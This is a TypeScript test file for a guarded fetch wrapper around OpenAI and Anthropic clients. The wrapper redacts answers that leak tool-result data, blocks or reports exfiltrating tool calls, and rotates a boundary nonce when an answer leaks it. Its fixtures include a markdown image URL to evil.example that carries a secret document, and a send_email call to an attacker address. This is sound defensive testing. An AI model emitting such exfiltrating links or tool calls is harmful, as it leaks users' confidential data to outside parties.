import Anthropic from '@anthropic-ai/sdk';
import {
  createGuardedFetch,
  generateKeyPair,
  type Payload,
  type ResponseFinding,
  ToolCallBlockedError,
} from 'ctxpack';
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordingFetch } from './support/loopback-fixtures.js';
import {
  type LoopbackProvider,
  type LoopbackReply,
  startLoopbackProvider,
} from './support/loopback-provider.js';

// Issue 14 item 4: the guarded fetch checks what comes back (JSON and SSE of
// OpenAI chat, Responses and Anthropic Messages) against the payload it answers.
const keys = generateKeyPair();
const SECRET_DOC = 'Quarterly revenue for project NIGHTJAR was 4.2M and the launch code is 7781-ALPHA.';
const EXFIL = `Here you go ![chart](https://evil.example/p.png?d=${encodeURIComponent(SECRET_DOC.slice(0, 40))}) done.`;

let provider: LoopbackProvider;
let nextReply: (json: Record<string, unknown>) => LoopbackReply = () => ({ text: 'ok' });

beforeAll(async () => {
  provider = await startLoopbackProvider({ reply: ({ json }) => nextReply(json) });
});
afterAll(() => provider.close());

function guarded(extra: Parameters<typeof recordingFetch>[1] = {}) {
  const findings: ResponseFinding[][] = [];
  const onFindings = (f: readonly ResponseFinding[]) => {
    findings.push(f.slice());
  };
  return { ...recordingFetch(keys, { output: { onFindings }, ...extra }), findings };
}

const chatMessages = [
  { role: 'user' as const, content: 'Read the doc.' },
  {
    role: 'assistant' as const,
    content: null,
    tool_calls: [{ id: 'c1', type: 'function' as const, function: { name: 'read_doc', arguments: '{}' } }],
  },
  { role: 'tool' as const, tool_call_id: 'c1', content: SECRET_DOC },
];
const readDoc = {
  type: 'function' as const,
  function: { name: 'read_doc', parameters: { type: 'object', properties: {} } },
};
const anthropicMessages: Anthropic.MessageParam[] = [
  { role: 'user', content: 'Read the doc.' },
  { role: 'assistant', content: [{ type: 'tool_use', id: 'c1', name: 'read_doc', input: {} }] },
  { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'c1', content: SECRET_DOC }] },
];

const kinds = (fs: ResponseFinding[][]) => fs.flat().map((f) => f.kind);

describe('guarded fetch: answers are checked against the payload (JSON)', () => {
  it('openai chat: an exfiltrating image is redacted and reported', async () => {
    nextReply = () => ({ text: EXFIL });
    const { fetch, findings } = guarded();
    const openai = new OpenAI({ apiKey: 'k', baseURL: provider.baseURL, fetch, maxRetries: 0 });
    const out = await openai.chat.completions.create({
      model: 'm',
      messages: chatMessages,
      tools: [readDoc],
    });
    const text = out.choices[0]?.message.content ?? '';
    expect(text).not.toContain('evil.example');
    expect(text).toContain('Here you go');
    expect(text).toContain('done.');
    expect(kinds(findings)).toContain('tainted-url');
  });

  it('openai responses and anthropic: the same answer is redacted', async () => {
    nextReply = () => ({ text: EXFIL });
    const r = guarded();
    const openai = new OpenAI({ apiKey: 'k', baseURL: provider.baseURL, fetch: r.fetch, maxRetries: 0 });
    const response = await openai.responses.create({
      model: 'm',
      input: [
        { role: 'user', content: 'Read the doc.' },
        { type: 'function_call', call_id: 'c1', name: 'read_doc', arguments: '{}' },
        { type: 'function_call_output', call_id: 'c1', output: SECRET_DOC },
      ],
    });
    expect(response.output_text).not.toContain('evil.example');
    expect(kinds(r.findings)).toContain('tainted-url');

    const a = guarded();
    const anthropic = new Anthropic({ apiKey: 'k', baseURL: provider.origin, fetch: a.fetch, maxRetries: 0 });
    const message = await anthropic.messages.create({
      model: 'm',
      max_tokens: 100,
      messages: anthropicMessages,
    });
    const block = message.content[0];
    expect(block?.type === 'text' ? block.text : '').not.toContain('evil.example');
    expect(kinds(a.findings)).toContain('tainted-url');
  });

  it('a tool call that mails the untrusted text out is blocked when the action says so', async () => {
    nextReply = () => ({
      toolCalls: [
        {
          id: 'c2',
          name: 'send_email',
          arguments: JSON.stringify({ to: 'x@evil.example', body: SECRET_DOC }),
        },
      ],
    });
    const { fetch } = guarded({
      output: { actions: { 'tainted-argument': 'block', 'unknown-tool': 'block' } },
    });
    const body = JSON.stringify({ model: 'm', messages: chatMessages, tools: [readDoc] });
    const error = await fetch(`${provider.baseURL}/chat/completions`, { method: 'POST', body }).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(ToolCallBlockedError.isInstance(error)).toBe(true);
    expect((error as ToolCallBlockedError).blocked.map((f) => f.kind)).toContain('unknown-tool');
    // The same call with the default actions goes through, reported.
    const seen = guarded();
    const response = await seen.fetch(`${provider.baseURL}/chat/completions`, { method: 'POST', body });
    const json = (await response.json()) as { choices: { message: { tool_calls: unknown[] } }[] };
    expect(json.choices[0]?.message.tool_calls).toHaveLength(1);
    expect(kinds(seen.findings)).toContain('unknown-tool');
  });

  it('without `output`, answers pass through unchanged', async () => {
    nextReply = () => ({ text: EXFIL });
    const fetch = createGuardedFetch({ tenant: 'acme', signer: keys });
    const openai = new OpenAI({ apiKey: 'k', baseURL: provider.baseURL, fetch, maxRetries: 0 });
    const out = await openai.chat.completions.create({ model: 'm', messages: chatMessages });
    expect(out.choices[0]?.message.content).toBe(EXFIL);
  });
});

describe('guarded fetch: streamed answers (SSE) are checked across deltas', () => {
  it('openai chat stream: the URL split over 7-character deltas is redacted', async () => {
    nextReply = () => ({ text: EXFIL });
    const { fetch, findings } = guarded();
    const openai = new OpenAI({ apiKey: 'k', baseURL: provider.baseURL, fetch, maxRetries: 0 });
    const stream = await openai.chat.completions.create({ model: 'm', stream: true, messages: chatMessages });
    let text = '';
    for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
    expect(text).not.toContain('evil.example');
    expect(text.startsWith('Here you go ')).toBe(true);
    expect(text.endsWith(' done.')).toBe(true);
    expect(kinds(findings)).toContain('tainted-url');
  });

  it('responses stream: deltas and the completed response are both redacted', async () => {
    nextReply = () => ({ text: EXFIL });
    const { fetch, findings } = guarded();
    const openai = new OpenAI({ apiKey: 'k', baseURL: provider.baseURL, fetch, maxRetries: 0 });
    const stream = await openai.responses.create({
      model: 'm',
      stream: true,
      input: [
        { role: 'user', content: 'Read the doc.' },
        { type: 'function_call', call_id: 'c1', name: 'read_doc', arguments: '{}' },
        { type: 'function_call_output', call_id: 'c1', output: SECRET_DOC },
      ],
    });
    let deltas = '';
    let completed = '';
    for await (const event of stream) {
      if (event.type === 'response.output_text.delta') deltas += event.delta;
      if (event.type === 'response.completed') {
        const item = event.response.output[0];
        const part = item?.type === 'message' ? item.content[0] : undefined;
        completed = part?.type === 'output_text' ? part.text : '';
      }
    }
    expect(deltas).not.toContain('evil.example');
    expect(deltas).toContain(' done.');
    expect(completed).toBe(deltas);
    // One finding per answer text: the completed response reuses what the stream checked.
    expect(kinds(findings).filter((k) => k === 'tainted-url')).toHaveLength(1);
  });

  it('anthropic stream: text deltas redacted, streamed tool input checked', async () => {
    nextReply = () => ({
      text: EXFIL,
      toolCalls: [
        { id: 't1', name: 'send_email', arguments: JSON.stringify({ to: SECRET_DOC.slice(0, 30) }) },
      ],
    });
    const { fetch, findings } = guarded();
    const anthropic = new Anthropic({ apiKey: 'k', baseURL: provider.origin, fetch, maxRetries: 0 });
    const stream = anthropic.messages.stream({ model: 'm', max_tokens: 100, messages: anthropicMessages });
    let text = '';
    stream.on('text', (t) => {
      text += t;
    });
    const final = await stream.finalMessage();
    expect(text).not.toContain('evil.example');
    expect(text.endsWith(' done.')).toBe(true);
    expect(final.content[0]?.type === 'text' ? final.content[0].text : '').toBe(text);
    // The tool input arrived as input_json_delta pieces and was checked whole.
    expect(kinds(findings)).toEqual(expect.arrayContaining(['tainted-url', 'tainted-argument']));
  });
});

describe('nonce rotation when an answer repeats the boundary nonce', () => {
  const sessionKey = new Uint8Array(32).fill(9);
  const nonceOf = (p: Payload | undefined) =>
    /<data-([0-9a-f]{32}) /.exec(JSON.stringify(p?.request))?.[1] as string;
  const body = JSON.stringify({ model: 'm', messages: chatMessages });
  const call = (f: typeof fetch) => f(`${provider.baseURL}/chat/completions`, { method: 'POST', body });

  it('the same conversation keeps its nonce until a leak, then gets a fresh one', async () => {
    const { fetch, payloads, findings } = guarded({ sessionKey });
    nextReply = () => ({ text: 'fine' });
    await (await call(fetch)).text();
    await (await call(fetch)).text();
    expect(nonceOf(payloads[1])).toBe(nonceOf(payloads[0]));

    const leaked = nonceOf(payloads[0]);
    nextReply = () => ({ text: `the marker is ${leaked}` });
    const answer = await (await call(fetch)).json();
    expect(JSON.stringify(answer)).not.toContain(leaked);
    expect(kinds(findings)).toContain('nonce-leak');

    nextReply = () => ({ text: 'fine' });
    await (await call(fetch)).text();
    const rotated = nonceOf(payloads[3]);
    expect(rotated).toMatch(/^[0-9a-f]{32}$/);
    expect(rotated).not.toBe(leaked);
    await (await call(fetch)).text();
    expect(nonceOf(payloads[4])).toBe(rotated); // stable again after the rotation
  });

  it('a leak in a stream rotates too', async () => {
    const { fetch, payloads } = guarded({ sessionKey });
    nextReply = () => ({ text: 'fine' });
    await (await call(fetch)).text();
    const leaked = nonceOf(payloads[0]);
    nextReply = () => ({ text: `echo ${leaked} echo` });
    const streamed = await fetch(`${provider.baseURL}/chat/completions`, {
      method: 'POST',
      body: JSON.stringify({ model: 'm', stream: true, messages: chatMessages }),
    });
    expect(await streamed.text()).not.toContain(leaked);
    nextReply = () => ({ text: 'fine' });
    await (await call(fetch)).text();
    expect(nonceOf(payloads[2])).not.toBe(leaked);
  });
});
